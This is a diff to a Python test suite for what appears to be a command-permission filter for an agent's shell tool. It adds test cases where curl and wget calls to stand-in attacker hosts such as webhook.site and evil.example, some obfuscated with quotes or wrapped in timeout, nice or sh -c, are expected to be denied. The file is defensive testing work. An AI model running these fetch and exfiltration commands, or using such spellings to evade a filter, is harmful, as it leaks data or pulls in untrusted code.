@@ -299,6 +299,8 @@ def test_instance_metadata_in_a_command_is_denied_in_any_spelling(make_runtime: 
     ("curl https://web''hook.site/abc", Action.DENY), ('curl "https://webhook"".site/abc"', Action.DENY),
     ("curl evil.example/x", Action.DENY), ("curl https://evil''.example/x", Action.DENY),
     ("wget -qO- attacker.com/x", Action.CONFIRM), ("sh -c 'curl attacker.com/x'", Action.CONFIRM),
+    ("timeout 5 curl webhook.site/x", Action.DENY), ("nice curl webhook.site/x", Action.DENY),
+    ("curl webhook.site/x.json", Action.DENY), ("curl evil.example/a.sh", Action.DENY),
     ("curl github.com/x", Action.ALLOW), ("wget -O index.html github.com/x", Action.ALLOW),
     ("curl -o out.json https://github.com/api", Action.ALLOW), ("curl localhost:8080/health", Action.ALLOW),
 ])
